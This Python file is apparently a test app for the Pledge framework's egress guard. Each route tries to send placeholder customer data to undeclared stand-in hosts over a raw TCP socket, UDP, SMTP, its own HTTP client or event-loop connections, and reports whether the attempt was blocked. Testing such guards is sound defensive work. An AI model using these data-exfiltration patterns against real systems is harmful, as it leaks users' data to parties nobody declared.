"""A test app that tries to send data where nobody declared: a raw socket, SMTP and an HTTP client of its own, each
beside Pledge's outbound client. Each route answers what became of its attempt."""

from __future__ import annotations

import asyncio
import os
import smtplib
import socket
from collections.abc import Awaitable

import httpx

from pledge.app import App, Auth, RequestContext
from pledge.egress.sub_processors import SubProcessor

UNDECLARED_ADDRESS = "192.0.2.25"  # TEST-NET-1 (RFC 5737): never anyone's server
UNDECLARED_HOST = "mail.undeclared.example"
DECLARED_HOST = "smtp.mailer.example"
LOOPBACK_PORT_ENV = "LEAKY_APP_LOOPBACK_PORT"

app = App(
    key="leaky",
    name="Leaky test app",
    sub_processors=(SubProcessor("Mailer Inc.", "sending notification e-mails", ("US",), (DECLARED_HOST,)),),
)


def _outcome(attempt: BaseException | None) -> dict[str, str]:
    """What became of the attempt: the innermost error a client wrapped (httpx wraps the socket's)."""
    if attempt is None:
        return {"outcome": "sent"}
    while attempt.__cause__ is not None or attempt.__context__ is not None:
        attempt = attempt.__cause__ or attempt.__context__
        assert attempt is not None
    return {"outcome": type(attempt).__name__, "detail": str(attempt)}


def _try(action: object) -> dict[str, str]:
    try:
        action()  # type: ignore[operator]
    except Exception as exc:
        return _outcome(exc)
    return _outcome(None)


async def _try_on_the_loop(attempt: Awaitable[object]) -> dict[str, str]:
    try:
        await attempt
    except Exception as exc:
        return _outcome(exc)
    return _outcome(None)


@app.route("/raw-socket", auth=Auth.PUBLIC)
async def raw_socket(_context: RequestContext) -> dict[str, str]:
    def send() -> None:
        with socket.create_connection((UNDECLARED_ADDRESS, 25), timeout=2) as connection:
            connection.sendall(b"the customer's data")

    return await asyncio.to_thread(_try, send)


@app.route("/udp", auth=Auth.PUBLIC)
async def udp(_context: RequestContext) -> dict[str, str]:
    def send() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
            datagram.sendto(b"the customer's data", (UNDECLARED_ADDRESS, 514))

    return _try(send)


@app.route("/smtp", auth=Auth.PUBLIC)
async def smtp(_context: RequestContext) -> dict[str, str]:
    return await asyncio.to_thread(_try, lambda: smtplib.SMTP(UNDECLARED_HOST, 25, timeout=2))


@app.route("/own-http-client", auth=Auth.PUBLIC)
async def own_http_client(_context: RequestContext) -> dict[str, str]:
    async def post() -> None:
        async with httpx.AsyncClient(timeout=2) as client:
            await client.post(f"http://{UNDECLARED_ADDRESS}/collect", content=b"the customer's data")

    return await _try_on_the_loop(post())


@app.route("/loopback", auth=Auth.PUBLIC)
async def loopback(_context: RequestContext) -> dict[str, str]:
    """The deployment's own machine stays reachable (a local database, cache or sidecar)."""
    port = int(os.environ[LOOPBACK_PORT_ENV])
    return await asyncio.to_thread(_try, lambda: socket.create_connection(("127.0.0.1", port), timeout=2).close())


@app.route("/declared-smtp", auth=Auth.PUBLIC)
async def declared_smtp(_context: RequestContext) -> dict[str, str]:
    """The declared sub-processor passes the guard (this machine's DNS then knows no such host)."""
    return await asyncio.to_thread(_try, lambda: smtplib.SMTP(DECLARED_HOST, 587, timeout=2))


@app.route("/loop-connection", auth=Auth.PUBLIC)
async def loop_connection(_context: RequestContext) -> dict[str, str]:
    """A connection the event loop opens itself (uvloop resolves and connects in libuv, beneath the audit events)."""

    async def connect() -> None:
        _reader, writer = await asyncio.wait_for(asyncio.open_connection(UNDECLARED_HOST, 25), timeout=2)
        writer.close()

    return await _try_on_the_loop(connect())


@app.route("/loop-datagram", auth=Auth.PUBLIC)
async def loop_datagram(_context: RequestContext) -> dict[str, str]:
    async def send() -> None:
        transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
            asyncio.DatagramProtocol, remote_addr=(UNDECLARED_ADDRESS, 514)
        )
        transport.sendto(b"the customer's data")
        transport.close()

    return await _try_on_the_loop(send())
